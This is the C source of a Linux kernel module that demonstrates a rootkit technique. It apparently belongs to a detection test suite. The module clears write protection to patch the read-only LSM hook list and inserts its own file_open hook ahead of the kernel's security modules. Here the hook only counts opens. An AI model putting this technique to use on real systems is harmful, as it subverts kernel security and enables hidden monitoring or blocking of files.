// SPDX-License-Identifier: GPL-2.0
/*
 * rk_lsm: an LSM hook entry of the module's own, linked first on
 * security_hook_heads.file_open, as LSM-based rootkits and "security"
 * modules that bypass security_add_hooks do: the heads are read-only after
 * init, so the list head and the old first entry's pprev are written with
 * CR0.WP cleared. The module's function then runs at every open, before
 * the kernel's own LSMs, and could deny it or watch every file; this one
 * only counts. No table entry and no kernel instruction is changed.
 */
#include <linux/lsm_hooks.h>
#include "rk_common.h"

static unsigned long hits;
module_param(hits, ulong, 0444);
MODULE_PARM_DESC(hits, "opens that went through the module's LSM entry");

static bool alias;
module_param(alias, bool, 0444);
MODULE_PARM_DESC(alias, "write the list head through its direct-map alias, not the kernel image's address");

static int rk_lsm_file_open(struct file *file)
{
	rk_enter();
	hits++;
	rk_leave();
	return 0;
}

static struct security_hook_list entry = {
	.hook = { .file_open = rk_lsm_file_open },
	.lsm = "rk_lsm",
};


static int __init rk_lsm_init(void)
{
	struct security_hook_heads *heads;
	struct hlist_head *head;
	struct hlist_node *first, *node = &entry.list;
	int ret = rk_init_kallsyms();

	if (ret)
		return ret;
	heads = (struct security_hook_heads *)rk_sym("security_hook_heads");
	if (!heads)
		return -ENOENT;
	head = &heads->file_open;
	entry.head = head;
	first = head->first;
	/* hlist_add_head: the entry first, then the old first's pprev, then the head. */
	entry.list.next = first;
	entry.list.pprev = &head->first;
	if (first) {
		struct hlist_node **pprev = &entry.list.next;

		rk_write_ro(&first->pprev, &pprev, sizeof(pprev));
	}
	if (alias)
		/* The same word at another virtual address: the direct map's. */
		rk_write_ro(__va(__pa_symbol(&head->first)), &node, sizeof(node));
	else
		rk_write_ro(&head->first, &node, sizeof(node));
	pr_info("rk_lsm: entry %px (%ps) first on security_hook_heads.file_open at %px\n", &entry, rk_lsm_file_open, head);
	return 0;
}

static void __exit rk_lsm_exit(void)
{
	/* hlist_del, wherever the entry is now. */
	struct hlist_node *next = entry.list.next;
	struct hlist_node **pprev = entry.list.pprev;

	rk_write_ro(pprev, &next, sizeof(next));
	if (next)
		rk_write_ro(&next->pprev, &pprev, sizeof(pprev));
	rk_drain();
}

module_init(rk_lsm_init);
module_exit(rk_lsm_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("test rootkit technique: an LSM hook entry linked by a module");
